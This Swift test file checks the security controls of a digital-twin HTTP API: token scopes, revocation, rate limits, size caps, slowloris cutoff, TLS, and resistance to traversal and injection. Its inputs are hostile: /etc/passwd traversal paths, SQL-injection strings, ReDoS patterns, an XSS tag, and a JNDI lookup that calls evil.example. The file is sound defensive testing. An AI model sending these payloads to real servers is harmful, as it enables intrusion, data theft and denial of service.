import Foundation
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif
import GemelloAggregator
import GemelloCore
import GemelloNGSILD
import GemelloTesting
import Testing

/// The HTTP API's controls against hostile and careless clients (docs/security.md): bearer
/// tokens with scopes, 401/403 as NGSI-LD ProblemDetails, revocation within a second, rate limits,
/// body and query caps, slow clients, path traversal and injection in every query parameter;
/// none of it changes the store.
@Suite struct APISecurityTests {
    /// A token file with one token per scope set; the tokens by name.
    static func tokens(in folder: URL) throws -> (file: String, tokens: [String: String]) {
        var file = APITokens()
        var generator = SystemRandomNumberGenerator()
        var tokens: [String: String] = [:]
        let sets: [(String, [APITokens.Scope])] = [("reader", [.twinRead]), ("writer", [.twinRead, .twinWrite]), ("subscriber", [.subscriptions]),
                                                   ("ops", [.fleetRead]), ("admin", [.admin])]
        for (name, scopes) in sets {
            let (token, record) = APITokens.make(name: name, scopes: scopes, createdAt: "2026-01-01T00:00:00.000Z", expiresAt: nil, using: &generator)
            file.upsert(record)
            tokens[name] = token
        }
        let (expired, record) = APITokens.make(name: "old", scopes: [.admin], createdAt: "2020-01-01T00:00:00.000Z",
                                               expiresAt: "2020-02-01T00:00:00.000Z", using: &generator)
        file.upsert(record)
        tokens["old"] = expired
        let path = folder.appendingPathComponent("api-tokens").path
        try file.format().write(toFile: path, atomically: true, encoding: .utf8)
        return (path, tokens)
    }

    static func secured(_ body: @escaping (TwinAPI, [String: String], String) async throws -> Void,
                        configure: @escaping (inout AggregatorConfiguration) -> Void = { _ in }) async throws {
        let folder = try Repository.temporaryFolder("api-security")
        let (file, tokens) = try Self.tokens(in: folder)
        try await TwinAPI.with(configure: { c in
            c.api.tokensFile = file
            configure(&c)
        }) { api in try await body(api, tokens, file) }
    }

    /// Any path on the server (not only under /ngsi-ld/v1), with an optional token.
    static func request(_ api: TwinAPI, _ method: String, _ path: String, token: String? = nil, body: Data? = nil,
                        contentType: String = "application/json", headers: [String: String] = [:]) async throws -> TwinAPI.Reply {
        var request = URLRequest(url: URL(string: "http://127.0.0.1:\(api.port)" + path)!)
        request.httpMethod = method
        if let token { request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization") }
        if let body { request.httpBody = body; request.setValue(contentType, forHTTPHeaderField: "Content-Type") }
        for (k, v) in headers { request.setValue(v, forHTTPHeaderField: k) }
        let (data, response) = try await URLSession.shared.data(for: request)
        let http = response as! HTTPURLResponse
        var fields: [String: String] = [:]
        for (k, v) in http.allHeaderFields { fields["\(k)"] = "\(v)" }
        return TwinAPI.Reply(status: http.statusCode, headers: fields, body: data.isEmpty ? nil : try? JSON.parse(Array(data)),
                             text: String(decoding: data, as: UTF8.self))
    }

    static let entity: JSON = ["id": "urn:ngsi-ld:Building:pirelli", "type": "Building", "height": ["type": "Property", "value": 127]]

    @Test func tokensAndScopesDecideEveryRoute() async throws {
        try await Self.secured { api, t, _ in
            // Without a token: 401, as ProblemDetails, with WWW-Authenticate; /health stays public.
            let anonymous = try await Self.request(api, "GET", "/ngsi-ld/v1/types")
            #expect(anonymous.status == 401)
            #expect(anonymous.header("WWW-Authenticate")?.hasPrefix("Bearer") == true)
            #expect(anonymous.body?["type"] == "https://uri.etsi.org/ngsi-ld/errors/Unauthorized")
            #expect(anonymous.body?["title"]?.stringValue == "Unauthorized" && anonymous.body?["detail"]?.stringValue?.contains("gemello token create") == true)
            #expect(try await Self.request(api, "GET", "/health").status == 200)
            #expect(try await Self.request(api, "GET", "/fleet").status == 401)
            #expect(try await Self.request(api, "GET", "/").status == 200)  // the dashboard page holds no data
            // Bad, malformed, other-scheme and expired credentials: 401 too.
            for bad in ["gmt_00000000_" + String(repeating: "0", count: 64), "nonsense", String(t["reader"]!.dropLast()) + "x"] {
                #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: bad).status == 401, "\(bad)")
            }
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", headers: ["Authorization": "Basic YWRtaW46YWRtaW4="]).status == 401)
            let expired = try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: t["old"])
            #expect(expired.status == 401 && expired.body?["detail"]?.stringValue?.contains("expired") == true)

            // Each scope opens its part and nothing else: 403 with the scope needed.
            let body = Data(Self.entity.serialized.utf8)
            let readerWrites = try await Self.request(api, "POST", "/ngsi-ld/v1/entities", token: t["reader"], body: body)
            #expect(readerWrites.status == 403 && readerWrites.body?["type"] == "https://uri.etsi.org/ngsi-ld/errors/Forbidden")
            #expect(readerWrites.body?["detail"]?.stringValue?.contains("twin:write") == true)
            #expect(readerWrites.header("Content-Type") == "application/json" && readerWrites.body?["title"]?.stringValue == "Forbidden")
            #expect(try await Self.request(api, "POST", "/ngsi-ld/v1/entities", token: t["writer"], body: body).status == 201)
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/entities/urn:ngsi-ld:Building:pirelli", token: t["reader"]).status == 200)
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/subscriptions", token: t["reader"]).status == 403)
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/subscriptions", token: t["subscriber"]).status == 200)
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: t["subscriber"]).status == 403)
            #expect(try await Self.request(api, "GET", "/fleet", token: t["ops"]).status == 200)
            #expect(try await Self.request(api, "GET", "/fleet", token: t["reader"]).status == 403)
            #expect(try await Self.request(api, "POST", "/alerts/x/ack", token: t["ops"], body: Data("{}".utf8)).status == 403)
            // A query by POST reads.
            let query = Data(#"{"type":"Query","entities":[{"type":"Building"}]}"#.utf8)
            #expect(try await Self.request(api, "POST", "/ngsi-ld/v1/entityOperations/query", token: t["reader"], body: query).status == 200)
            for path in ["/ngsi-ld/v1/types", "/fleet", "/ngsi-ld/v1/subscriptions"] {
                #expect(try await Self.request(api, "GET", path, token: t["admin"]).status == 200, "\(path)")
            }
            #expect(try await Self.request(api, "DELETE", "/ngsi-ld/v1/entities/urn:ngsi-ld:Building:pirelli", token: t["writer"]).status == 204)
        }
    }

    /// `gemello token create|list|revoke` as an operator runs them; a revoked token is refused
    /// within a second and a half, without a restart; the file never holds a token.
    @Test func revocationTakesEffectWithoutARestart() async throws {
        try await Self.secured { api, _, file in
            let made = try RulesCLITests.gemello(["token", "create", "--tokens-file", file, "--name", "control-room", "--scope", "twin:read"])
            #expect(made.status == 0, "\(made.output)")
            let token = try #require(made.output.split(separator: "\n").first { $0.hasPrefix("gmt_") }.map(String.init))
            try await Task.sleep(for: .milliseconds(1100))
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: token).status == 200)
            let text = try String(contentsOfFile: file, encoding: .utf8)
            #expect(!text.contains(token) && text.contains(SHA256.hash(Array(token.utf8)).hexString))
            #expect((try FileManager.default.attributesOfItem(atPath: file)[.posixPermissions] as? NSNumber)?.intValue == 0o600)
            let listed = try RulesCLITests.gemello(["token", "list", "--tokens-file", file])
            #expect(listed.output.contains("control-room") && !listed.output.contains(token))

            let revoked = try RulesCLITests.gemello(["token", "revoke", "--tokens-file", file, "control-room"])
            #expect(revoked.status == 0, "\(revoked.output)")
            try await Task.sleep(for: .milliseconds(1500))
            let refused = try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: token)
            #expect(refused.status == 401 && refused.body?["detail"]?.stringValue?.contains("revoked") == true, "\(refused.text)")
            // A broken file keeps the last good one in force.
            try "garbage line\n".write(toFile: file, atomically: true, encoding: .utf8)
            try await Task.sleep(for: .milliseconds(1500))
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: token).status == 401)
        }
    }

    @Test func rateLimitAndSizeCapsAnswerBeforeAnyWork() async throws {
        try await Self.secured({ api, t, _ in
            // The burst (3) is served, then a refusal comes before the bucket refills (0.5 per
            // second): on a loaded CI machine a request can take seconds and earn a token, so
            // requests go on until the first refusal (at most 10), not a fixed five.
            var statuses: [Int] = []
            var retryAfter: String?
            for _ in 0..<10 where statuses.last != 429 {
                let response = try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: t["reader"])
                statuses.append(response.status)
                if response.status == 429 { retryAfter = response.header("Retry-After") }
            }
            #expect(statuses.prefix(3).allSatisfy { $0 == 200 } && statuses.count > 3 && statuses.last == 429, "\(statuses)")
            // The refusal itself says when to come back.
            #expect(Int(retryAfter ?? "") ?? 0 >= 1, "Retry-After: \(retryAfter ?? "none")")
            // Another token has its own bucket.
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: t["admin"]).status == 200)

            let big = Data(repeating: 0x20, count: 70_000)
            let tooLarge = try await Self.request(api, "POST", "/ngsi-ld/v1/entities", token: t["writer"], body: big)
            #expect(tooLarge.status == 413 && tooLarge.body?["type"] == "https://uri.etsi.org/ngsi-ld/errors/PayloadTooLarge")
            let longQuery = try await Self.request(api, "GET", "/ngsi-ld/v1/entities?type=Building&q=" + String(repeating: "a", count: 3000),
                                                   token: t["writer"])
            #expect(longQuery.status == 414)
            // A chunked body (no Content-Length) past the cap: 413 as well.
            let chunked = try RawHTTP.exchange(port: api.port, """
                POST /ngsi-ld/v1/entities HTTP/1.1\r
                Host: x\r
                Authorization: Bearer \(t["admin"]!)\r
                Content-Type: application/json\r
                Transfer-Encoding: chunked\r
                \r
                10000\r
                \(String(repeating: " ", count: 65536))\r
                10000\r
                \(String(repeating: " ", count: 65536))\r
                0\r
                \r

                """)
            // 413, or (when the server closes while body bytes are still in flight) a reset before
            // any reply: either way nothing was stored.
            #expect(chunked.hasPrefix("HTTP/1.1 413") || chunked.isEmpty, "\(chunked.prefix(200))")
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/entities/urn:ngsi-ld:Building:pirelli", token: t["admin"]).status == 404)
        }, configure: { c in
            c.api.ratePerSecond = 0.5
            c.api.burst = 3
            c.api.maxBody = 65_536
            c.api.maxQuery = 2048
        })
    }

    /// A client that drips its request (slowloris) is cut off at http.request-timeout while
    /// others are served.
    @Test(.timeLimit(.minutes(1)))
    func slowClientsAreCutOff() async throws {
        try await Self.secured({ api, t, _ in
            let fd = try RawHTTP.connect(port: api.port)
            defer { close(fd) }
            // Up to 30 s of dripping (200 bytes, one each 150 ms): the server must cut it long before.
            // The drip runs on a thread of its own, so the time measured is the server's, not how
            // long a busy test process took to schedule this task (2 cooperative threads in CI).
            let drip = Task {
                try await offPool { () -> Duration? in
                    let started = ContinuousClock.now
                    for byte in ("GET /ngsi-ld/v1/types HTTP/1.1\r\nHost: x\r\nX-Slow: " + String(repeating: "z", count: 150)).utf8 {
                        var b = byte
                        if send(fd, &b, 1, Int32(MSG_NOSIGNAL)) != 1 { return ContinuousClock.now - started }
                        usleep(150_000)
                        if RawHTTP.isClosed(fd) { return ContinuousClock.now - started }
                    }
                    return nil
                }
            }
            // Meanwhile the server answers others.
            #expect(try await Self.request(api, "GET", "/ngsi-ld/v1/types", token: t["reader"]).status == 200)
            let closedAfter = try await drip.value
            let cut = try #require(closedAfter, "the slow client was never cut off")
            // Alone it is cut at ~2.2 s; beside the whole suite on two cores the server's timer
            // has been seen to fire as late as 13.4 s. Under 20 s is still long before the drip ends.
            #expect(cut < .seconds(20), "cut after \(cut) (request-timeout 2 s)")
        }, configure: { c in c.httpRequestTimeout = .seconds(2) })
    }

    /// Path traversal and injection in every query parameter: a 4xx (or an empty, valid 200),
    /// never a 5xx, never a file, and the store unchanged.
    @Test func traversalAndInjectionHaveNoEffect() async throws {
        try await Self.secured { api, t, _ in
            #expect(try await Self.request(api, "POST", "/ngsi-ld/v1/entities", token: t["writer"], body: Data(Self.entity.serialized.utf8)).status == 201)
            for path in ["/../../etc/passwd", "/dashboard/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/ngsi-ld/v1/entities/..%2F..%2Fetc%2Fpasswd",
                         "/ngsi-ld/v1/../../etc/passwd", "/fleet/..%2f..%2fetc%2fpasswd", "/alerts/%00"] {
                let reply = try await Self.request(api, "GET", path, token: t["admin"])
                #expect((400..<500).contains(reply.status) && !reply.text.contains("root:"), "\(path): \(reply.status)")
            }
            let hostile = ["' OR 1=1 --", "\"; DROP TABLE entities; --", "1;DELETE FROM ngsi_entities", "%00", "\u{0}",
                           "(((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((a)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))",
                           "(a+)+$", "(.*)*x", "height==1e400", "height~=(a|aa)+$", "a[", "<script>alert(1)</script>", "../../etc/passwd",
                           String(repeating: "x", count: 1500), "height>", "!!!", "height==\"\\", "location==urn:ngsi-ld:x;;;;||",
                           "https://evil.example/x", "${jndi:ldap://evil.example/a}"]
            for value in hostile {
                let v = value.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                for query in ["type=Building&q=\(v)", "idPattern=\(v)", "type=\(v)", "type=Building&attrs=\(v)", "id=\(v)",
                              "type=Building&georel=\(v)&geometry=Point&coordinates=%5B9,45%5D"] {
                    let started = ContinuousClock.now
                    let reply = try await Self.request(api, "GET", "/ngsi-ld/v1/entities?\(query)", token: t["reader"])
                    #expect(reply.status < 500, "\(query): \(reply.status) \(reply.text.prefix(200))")
                    // Generous for a loaded CI machine; a backtracking pattern would run for minutes.
                    #expect(ContinuousClock.now - started < .seconds(15), "\(query) took \(ContinuousClock.now - started)")
                    if reply.status >= 400 { #expect(reply.body?["type"]?.stringValue?.hasPrefix("https://uri.etsi.org/ngsi-ld/errors/") == true, "\(query)") }
                }
                for path in ["/ngsi-ld/v1/entities/\(v)", "/ngsi-ld/v1/types/\(v)", "/ngsi-ld/v1/temporal/entities/\(v)?lastN=\(v)", "/fleet/\(v)"] {
                    let reply = try await Self.request(api, "GET", path, token: t["admin"])
                    #expect(reply.status < 500, "\(path): \(reply.status)")
                }
            }
            let all = try await Self.request(api, "GET", "/ngsi-ld/v1/entities?type=Building", token: t["reader"])
            #expect(all.body?.arrayValue?.count == 1)
            #expect(all.body?.arrayValue?.first?["height"]?["value"] == 127)
        }
    }
}

extension APISecurityTests {
    static func curl(_ arguments: [String]) throws -> (status: Int32, output: String) {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/curl")
        process.arguments = ["-s", "--max-time", "10"] + arguments
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = FileHandle.nullDevice
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: data, as: UTF8.self))
    }

    /// http.tls-*: HTTPS with HTTP/2 and HTTP/1.1 by ALPN, TLS 1.2 or later, with a certificate
    /// from `gemello pki init`; a client that does not trust the CA is refused.
    @Test func httpsServesHTTP2AndHTTP11() async throws {
        let folder = try Repository.temporaryFolder("api-https")
        let pki = folder.appendingPathComponent("pki")
        let made = try RulesCLITests.gemello(["pki", "init", "--pki", pki.path, "--reload-command", "true"])
        #expect(made.status == 0, "\(made.output)")
        let (file, tokens) = try Self.tokens(in: folder)
        try await TwinAPI.with(configure: { c in
            c.api.tokensFile = file
            c.httpTLS = (pki.appendingPathComponent("broker.crt").path, pki.appendingPathComponent("broker.key").path)
        }) { api in
            let url = "https://localhost:\(api.port)/ngsi-ld/v1/types"
            let ca = ["--cacert", pki.appendingPathComponent("ca.crt").path]
            let auth = ["-H", "Authorization: Bearer \(tokens["reader"]!)"]
            let h2 = try Self.curl(ca + auth + ["-o", "/dev/null", "-w", "%{http_version} %{http_code}", url])
            #expect(h2.output == "2 200", "\(h2)")
            let h1 = try Self.curl(ca + auth + ["--http1.1", "-o", "/dev/null", "-w", "%{http_version} %{http_code}", url])
            #expect(h1.output == "1.1 200", "\(h1)")
            let anonymous = try Self.curl(ca + ["-o", "/dev/null", "-w", "%{http_code}", url])
            #expect(anonymous.output == "401")
            let oldTLS = try Self.curl(ca + auth + ["--tls-max", "1.1", "-o", "/dev/null", "-w", "%{http_code}", url])
            #expect(oldTLS.status != 0, "TLS 1.1 was accepted")
            let untrusted = try Self.curl(auth + ["-o", "/dev/null", url])
            #expect(untrusted.status == 60, "curl exit \(untrusted.status)")  // peer certificate cannot be authenticated
            let plain = try Self.curl(auth + ["-o", "/dev/null", "-w", "%{http_code}", "http://localhost:\(api.port)/ngsi-ld/v1/types"])
            #expect(plain.output != "200")
        }
    }
}

/// A raw HTTP/1.1 client on a socket, for what URLSession will not send (chunked bodies, a
/// request dripped byte by byte).
enum RawHTTP {
    static func connect(port: Int) throws -> Int32 {
        guard let fd = FreePort.connect(port: port) else { throw POSIXError(.ECONNREFUSED) }
        return fd
    }

    /// Whether the peer closed the connection (a read returns end of file).
    static func isClosed(_ fd: Int32) -> Bool {
        var p = pollfd(fd: fd, events: Int16(POLLIN), revents: 0)
        guard poll(&p, 1, 0) > 0 else { return false }
        var byte: UInt8 = 0
        return recv(fd, &byte, 1, Int32(MSG_PEEK)) <= 0
    }

    /// Sends `request` and returns what came back before the server closed or 5 s passed.
    static func exchange(port: Int, _ request: String) throws -> String {
        let fd = try connect(port: port)
        defer { close(fd) }
        var timeout = timeval(tv_sec: 5, tv_usec: 0)
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
        let bytes = Array(request.utf8)
        var sent = 0
        while sent < bytes.count {
            let n = bytes[sent...].withUnsafeBytes { send(fd, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL)) }
            if n <= 0 { break }
            sent += n
        }
        var reply: [UInt8] = []
        var buffer = [UInt8](repeating: 0, count: 4096)
        while true {
            let n = recv(fd, &buffer, buffer.count, 0)
            if n <= 0 { break }
            reply += buffer[0..<n]
            if reply.count > 1 << 20 { break }
            if let text = String(bytes: reply, encoding: .utf8), text.contains("\r\n\r\n"), text.contains("Content-Length: "),
               let length = text.split(separator: "\r\n").first(where: { $0.hasPrefix("Content-Length: ") }).flatMap({ Int($0.dropFirst(16)) }),
               let headEnd = text.range(of: "\r\n\r\n"), text[headEnd.upperBound...].utf8.count >= length {
                break
            }
        }
        return String(decoding: reply, as: UTF8.self)
    }
}
